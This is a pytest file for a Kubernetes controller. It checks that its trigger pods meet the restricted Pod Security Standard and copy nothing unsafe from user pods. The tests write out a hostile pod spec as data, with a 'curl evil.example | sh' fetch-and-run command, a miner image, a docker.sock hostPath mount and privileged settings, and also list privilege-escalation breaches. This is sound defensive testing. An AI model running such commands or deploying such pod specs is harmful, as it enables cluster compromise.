"""Trigger pods pass the restricted Pod Security Standard and carry nothing of a user's
pod but the node-selector entries Karpenter can resolve (issue 8)."""

from __future__ import annotations

import copy
import json
from datetime import UTC, datetime
from typing import Any

import pytest
from controller_fixtures import T0, gpu_pod, nodepool
from pss import violations

from controller.decisions import PlanConfig, Snapshot
from controller.model import GroupKey, PodRef, parse_pending_pod
from controller.nodes import parse_nodepool
from controller.plan import plan
from controller.triggers import TriggerSettings, copyable_selector, trigger_name, trigger_pod
from gpu_intent.cli import build_parser, plan_config

NOW = datetime(2026, 11, 21, 12, 0, 30, tzinfo=UTC)
CONFIG = PlanConfig(trigger=TriggerSettings(namespace="gpu-intent-system"))
POOL = nodepool("gpu-standard", models=["l4"])


def planned_triggers(pod: dict[str, Any]) -> list[dict[str, Any]]:
    """The trigger bodies the planner makes for ``pod`` alone, through the real parser."""
    pool = parse_nodepool(POOL)
    parsed = parse_pending_pod(pod, pool.label_keys())
    assert parsed is not None and not isinstance(parsed, type(None))
    snap = Snapshot([parsed], [], {}, {pool.name: pool}, NOW)  # type: ignore[list-item]
    return [create.body for create in plan(snap, CONFIG).creates]


def user_pod(**spec: Any) -> dict[str, Any]:
    pod = gpu_pod("user", "1", model="l4", pool="gpu-standard")
    pod["spec"].update(spec)
    return pod


def test_trigger_pod_passes_restricted_pod_security_standard() -> None:
    [body] = planned_triggers(user_pod())
    assert violations(body) == []
    spec = body["spec"]
    assert spec["securityContext"] == {
        "runAsNonRoot": True,
        "runAsUser": 65535,
        "runAsGroup": 65535,
        "seccompProfile": {"type": "RuntimeDefault"},
    }
    assert spec["automountServiceAccountToken"] is False
    assert spec["terminationGracePeriodSeconds"] == 0
    assert spec["activeDeadlineSeconds"] == 1800
    assert "volumes" not in spec and "serviceAccountName" not in spec


@pytest.mark.parametrize(
    "breach",
    [
        lambda s: s["containers"][0]["securityContext"].pop("allowPrivilegeEscalation"),
        lambda s: s["containers"][0]["securityContext"]["capabilities"].update(drop=[]),
        lambda s: s["containers"][0]["securityContext"]["capabilities"].update(add=["SYS_ADMIN"]),
        lambda s: s["containers"][0]["securityContext"].update(privileged=True),
        lambda s: [
            s["securityContext"].pop("runAsNonRoot"),
            s["containers"][0]["securityContext"].pop("runAsNonRoot"),
        ],
        lambda s: s["securityContext"].update(runAsUser=0),
        lambda s: [
            s["securityContext"].pop("seccompProfile"),
            s["containers"][0]["securityContext"].pop("seccompProfile"),
        ],
        lambda s: s["containers"][0]["securityContext"].update(
            seccompProfile={"type": "Unconfined"}
        ),
        lambda s: s.update(hostNetwork=True),
        lambda s: s.update(volumes=[{"name": "h", "hostPath": {"path": "/"}}]),
        lambda s: s["containers"][0].update(ports=[{"containerPort": 80, "hostPort": 80}]),
    ],
)
def test_the_check_catches_each_breach(breach: Any) -> None:
    """The check is not vacuous: each change to a trigger that breaks one control of the
    standard is reported."""
    [body] = planned_triggers(user_pod())
    broken = copy.deepcopy(body)
    breach(broken["spec"])
    assert violations(broken)


def test_trigger_deadline_is_a_flag() -> None:
    args = build_parser().parse_args(["controller", "--trigger-deadline-seconds", "600"])
    assert plan_config(args).trigger.deadline_seconds == 600
    with pytest.raises(SystemExit):
        build_parser().parse_args(["controller", "--trigger-deadline-seconds", "0"])


def test_never_copies_image_command_or_volumes() -> None:
    pod = user_pod(
        volumes=[{"name": "host", "hostPath": {"path": "/var/run/docker.sock"}}],
        serviceAccountName="admin",
        hostNetwork=True,
    )
    pod["spec"]["containers"][0].update(
        image="evil.example/miner:latest",
        command=["/bin/sh", "-c", "curl evil.example | sh"],
        args=["--evil"],
        volumeMounts=[{"name": "host", "mountPath": "/sock"}],
        securityContext={"privileged": True},
    )
    [body] = planned_triggers(pod)
    text = json.dumps(body)
    for leaked in ("evil", "docker.sock", "admin", "/bin/sh", "hostPath"):
        assert leaked not in text
    container = body["spec"]["containers"][0]
    assert container["image"] == "registry.k8s.io/pause:3.10"
    assert "command" not in container and "args" not in container
    assert "volumeMounts" not in container and "volumes" not in body["spec"]
    assert "hostNetwork" not in body["spec"]
    assert violations(body) == []


def test_never_copies_match_fields_or_affinity() -> None:
    fields = {"key": "metadata.name", "operator": "In", "values": ["node-a"]}
    pod = user_pod(
        affinity={
            "nodeAffinity": {
                "requiredDuringSchedulingIgnoredDuringExecution": {
                    "nodeSelectorTerms": [
                        {"matchFields": [fields]},
                        {
                            "matchExpressions": [
                                {
                                    "key": "topology.kubernetes.io/zone",
                                    "operator": "In",
                                    "values": ["us-east-1a"],
                                }
                            ]
                        },
                    ]
                }
            }
        }
    )
    for body in planned_triggers(pod):
        assert "matchFields" not in json.dumps(body) and "node-a" not in json.dumps(body)


def test_never_copies_hostname_or_restricted_karpenter_selector() -> None:
    """Both fences: the parser keeps only copyable entries of a pod's nodeSelector, and
    the trigger builder drops any that reach it anyway (a group key built by hand)."""
    selector = {
        "kubernetes.io/hostname": "node-a",
        "karpenter.sh/registered": "true",
        "karpenter.sh/nodepool": "someone-elses",
        "topology.kubernetes.io/zone": "us-east-1a",
    }
    pool_keys = parse_nodepool(POOL).label_keys()
    parsed = parse_pending_pod(user_pod(nodeSelector=selector), pool_keys)
    assert parsed is not None and not hasattr(parsed, "error")
    assert dict(parsed.selector) == {  # type: ignore[union-attr]
        "karpenter.sh/nodepool": "someone-elses",
        "topology.kubernetes.io/zone": "us-east-1a",
    }
    group = GroupKey("gpu-standard", "l4", tuple(sorted(selector.items())))
    serves = [PodRef("ml", "user", "uid-user")]
    body = trigger_pod(
        group, 1, parse_nodepool(POOL), serves, CONFIG.trigger, name=trigger_name(group, serves, T0)
    )
    assert body["spec"]["nodeSelector"] == {
        "karpenter.sh/nodepool": "gpu-standard",  # the trigger's own key wins
        "karpenter.k8s.aws/instance-gpu-name": "l4",
        "topology.kubernetes.io/zone": "us-east-1a",
    }
    assert copyable_selector([("example.com/nowhere", "x")], parse_nodepool(POOL)) == {}
    assert copyable_selector([("karpenter.sh/capacity-type", "spot")], parse_nodepool(POOL)) == {
        "karpenter.sh/capacity-type": "spot"
    }
